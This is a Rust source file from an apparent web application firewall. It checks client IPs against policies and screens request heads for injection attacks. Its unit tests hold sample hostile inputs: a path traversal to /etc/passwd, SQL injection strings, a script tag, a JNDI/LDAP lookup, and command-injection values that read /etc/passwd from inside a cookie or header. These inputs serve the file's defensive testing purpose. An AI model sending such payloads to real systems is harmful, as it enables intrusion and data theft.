//! Head checks that judge who sent the request and what its head carries: the client
//! address against the IP policies, and injection screening of the normalised path,
//! query, cookies and header values with the shared detection engine.

use std::sync::Arc;

use http::{HeaderMap, Uri};
use rampart_core::check::{Check, CheckFuture, Denial, Verdict};
use rampart_core::phase::RequestHead;
use rampart_core::problem::Reason;
use rampart_detect::{Budget, ClientMemo, Engine, Findings, Policy, SharedMemo};
use rampart_http::{IpDecision, IpPolicy};

/// Refuses clients the address policies exclude.
pub(crate) struct AddressCheck {
    pub(crate) policies: Vec<Arc<IpPolicy>>,
}

impl AddressCheck {
    fn verdict(&self, head: &RequestHead) -> Verdict {
        for policy in &self.policies {
            if let IpDecision::Deny { list } = policy.decide(head.client_ip) {
                let rule = list.as_deref().unwrap_or("not-allowed").to_owned();
                return Verdict::Deny(
                    Denial::new("ip-policy", Reason::AddressDenied).with_rule(rule),
                );
            }
        }
        Verdict::Allow
    }
}

impl Check<RequestHead> for AddressCheck {
    fn id(&self) -> &'static str {
        "ip-policy"
    }

    fn check<'a>(&'a self, input: &'a RequestHead) -> CheckFuture<'a> {
        Box::pin(std::future::ready(Ok(self.verdict(input))))
    }
}

/// Screens the request head for injection attacks.
pub(crate) struct Screening {
    engine: Arc<Engine>,
    policy: Arc<Policy>,
    /// Client capability headers (`User-Agent`, `Accept`...) and names found clean by
    /// earlier requests under this policy: the same few arrive on every request.
    seen: Arc<SharedMemo>,
    /// The route's authentication judges the `Authorization` header.
    leave_authorization: bool,
}

impl Screening {
    pub(crate) fn new(engine: Arc<Engine>, policy: Arc<Policy>, seen: Arc<SharedMemo>) -> Self {
        Screening {
            engine,
            policy,
            seen,
            leave_authorization: false,
        }
    }

    /// Leaves the `Authorization` header to the route's authentication when `leave`: it
    /// refuses a forged or malformed credential with 401 (RFC 6750), not 403.
    pub(crate) fn leaving_authorization(mut self, leave: bool) -> Self {
        self.leave_authorization = leave;
        self
    }

    fn findings(&self, head: &RequestHead) -> Findings {
        let mut fields = rampart_detect::extract::head_fields(&head.parts.uri, &head.parts.headers);
        if self.leave_authorization {
            fields.fields.retain(|f| {
                !(f.location.scope() == "header" && f.location.name() == "authorization")
            });
        }
        let mut budget = Budget::default();
        match client_memo(head) {
            Some(client) => self.engine.inspect_for_client(
                fields.fields,
                &self.policy,
                &mut budget,
                &self.seen,
                client,
            ),
            None => {
                self.engine
                    .inspect_sharing(fields.fields, &self.policy, &mut budget, &self.seen)
            }
        }
    }
}

/// Per-connection state for [`client_memo`]: a connection's clean cookie and header
/// values.
pub(crate) fn connection_state() -> http::Extensions {
    let mut state = http::Extensions::new();
    state.insert(Arc::new(ClientMemo::new()));
    state
}

/// The connection's memo of clean cookie and header values, when every request on it
/// comes from one client: the socket peer is the client. A trusted proxy's connection
/// carries many clients, and one client's memo must not tell another (by timing) what it
/// sent.
fn client_memo(head: &RequestHead) -> Option<&ClientMemo> {
    let peer = head.connection.peer.ip().to_canonical();
    if head.client_ip.to_canonical() != peer {
        return None;
    }
    head.connection
        .extensions
        .get::<Arc<ClientMemo>>()
        .map(Arc::as_ref)
}

/// An attack in a request whose target the URL normaliser refused (`%2F`, a backslash,
/// `..` above the root...). The request is refused either way; an attack is the more
/// serious finding, so it is answered 403 and logged as one. The built-in rules and
/// policy judge it: the route (and its policy) is only known once the path is normal.
pub(crate) fn attack_in_refused_target(uri: &Uri, headers: &HeaderMap) -> Option<Denial> {
    let policy = Policy::default();
    let fields = rampart_detect::extract::head_fields(uri, headers);
    let mut budget = Budget::default();
    let findings = Engine::builtin().inspect(fields.fields, &policy, &mut budget);
    denial_of(&findings, policy.threshold()).filter(|d| d.reason == Reason::AttackDetected)
}

/// The denial screening calls for, with the explanation for the audit log.
pub(crate) fn denial_of(findings: &Findings, threshold: u32) -> Option<Denial> {
    if findings.undecided.is_some() {
        // More nested encodings than the budget allows: refuse rather than guess.
        return Some(Denial::new("screening", Reason::BadRequest).with_rule("decode-budget"));
    }
    if !findings.blocks(threshold) {
        return None;
    }
    let first = findings.hits.iter().find(|h| !h.detect_only)?;
    let mut denial = Denial::new("screening", Reason::AttackDetected)
        .with_rule(first.rule_id.clone())
        .with_location(first.location.clone());
    denial.score = Some(findings.score);
    Some(denial)
}

impl Check<RequestHead> for Screening {
    fn id(&self) -> &'static str {
        "screening"
    }

    fn check<'a>(&'a self, input: &'a RequestHead) -> CheckFuture<'a> {
        let findings = self.findings(input);
        let verdict = match denial_of(&findings, self.policy.threshold()) {
            None => Verdict::Allow,
            Some(denial) => {
                let explanation: Vec<String> = findings
                    .hits
                    .iter()
                    .map(|h| format!("{}@{}: {}", h.rule_id, h.location, h.fragment))
                    .collect();
                tracing::info!(request_id = %input.request_id, hits = ?explanation, "screening hits");
                Verdict::Deny(denial)
            }
        };
        Box::pin(std::future::ready(Ok(verdict)))
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::limits::tests::head_with_method;
    use rampart_core::phase::Connection;

    #[test]
    fn refused_targets_carrying_attacks_are_attacks() {
        let headers = HeaderMap::new();
        for (target, attack) in [
            ("/files/..%2f..%2fetc%2fpasswd", true),
            ("/%5cu0027%20or%201=1--", true),
            ("/a/b%2fc", false),
            ("/docs/report%5cfinal", false),
        ] {
            let uri: Uri = target.parse().unwrap();
            let denial = attack_in_refused_target(&uri, &headers);
            assert_eq!(denial.is_some(), attack, "{target}: {denial:?}");
        }
    }

    #[test]
    fn screening_refuses_attacks_in_the_head_and_passes_look_alikes() {
        let screening = Screening::new(
            Arc::new(Engine::builtin()),
            Arc::new(Policy::default()),
            Arc::default(),
        );
        type Case<'a> = (&'a str, &'a [(&'a str, &'a str)], bool);
        let cases: [Case<'_>; 12] = [
            ("/plans?q=select+your+plan", &[], false),
            ("/authors?name=O%27Reilly", &[], false),
            ("/items?id=1%27%20OR%20%271%27%3D%271", &[], true),
            ("/search?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E", &[], true),
            (
                "/x",
                &[("x-api-version", "${jndi:ldap://203.0.113.9/a}")],
                true,
            ),
            (
                "/x",
                &[("user-agent", "Mozilla/5.0 (X11; Linux x86_64)")],
                false,
            ),
            ("/x", &[("cookie", "session=abc123; theme=dark")], false),
            (
                "/x",
                &[("cookie", "consent=analytics%3Dno%26ads%3Dno; theme=dark")],
                false,
            ),
            ("/x", &[("cookie", "q=;cat /etc/passwd")], true),
            (
                "/x",
                &[("cookie", "q=%3Bcat%20%2Fetc%2Fpasswd; theme=dark")],
                true,
            ),
            (
                "/x",
                &[("x-client-version", "billing-sync/4.18.2 (build 20240501.3)")],
                false,
            ),
            (
                "/x",
                &[(
                    "x-client-version",
                    "billing-sync/4.18.2 (build 3); cat /etc/passwd",
                )],
                true,
            ),
        ];
        // All from one client connection, twice: the second round meets its clean cookie
        // and header values remembered, and the attacks still refused.
        let connection = Arc::new(Connection {
            peer: "127.0.0.1:1".parse().unwrap(),
            local: "127.0.0.1:2".parse().unwrap(),
            tls: None,
            extensions: connection_state(),
        });
        for _ in 0..2 {
            for (target, headers, attack) in cases {
                let mut head = head_with_method("GET", target, headers);
                head.connection = connection.clone();
                assert!(client_memo(&head).is_some());
                let denial = denial_of(&screening.findings(&head), 5);
                assert_eq!(denial.is_some(), attack, "{target} {headers:?}: {denial:?}");
            }
        }
    }

    /// A forged bearer credential is screened on a route without authentication, and left
    /// to the route's authentication (401, RFC 6750) where it judges the header.
    #[test]
    fn authorization_is_screened_unless_the_route_authenticates_it() {
        let forged = [("authorization", "Bearer x' or '1'='1")];
        let screening = |leave| {
            Screening::new(
                Arc::new(Engine::builtin()),
                Arc::new(Policy::default()),
                Arc::default(),
            )
            .leaving_authorization(leave)
        };
        let head = head_with_method("GET", "/api/me", &forged);
        assert!(denial_of(&screening(false).findings(&head), 5).is_some());
        assert!(denial_of(&screening(true).findings(&head), 5).is_none());
        // Other headers are screened either way.
        let head = head_with_method("GET", "/api/me", &[("x-token", "x' or '1'='1")]);
        assert!(denial_of(&screening(true).findings(&head), 5).is_some());
    }

    fn head(peer: &str, client: &str) -> RequestHead {
        let (parts, ()) = http::Request::new(()).into_parts();
        RequestHead {
            parts,
            request_id: rampart_core::id::RequestId::generate(),
            client_ip: client.parse().unwrap(),
            connection: Arc::new(Connection {
                peer: peer.parse().unwrap(),
                local: "127.0.0.1:443".parse().unwrap(),
                tls: None,
                extensions: connection_state(),
            }),
        }
    }

    #[test]
    fn a_connection_remembers_values_only_when_its_peer_is_the_client() {
        let cases = [
            ("192.0.2.7:50000", "192.0.2.7", true),
            ("[::ffff:192.0.2.7]:50000", "192.0.2.7", true),
            ("[2001:db8::7]:50000", "2001:db8::7", true),
            // Resolved through a trusted proxy (X-Forwarded-For, Forwarded, PROXY
            // protocol): the connection carries other clients too.
            ("192.0.2.7:50000", "198.51.100.9", false),
            ("[2001:db8::7]:50000", "2001:db8::8", false),
        ];
        for (peer, client, remembers) in cases {
            assert_eq!(
                client_memo(&head(peer, client)).is_some(),
                remembers,
                "{peer} {client}"
            );
        }
    }
}
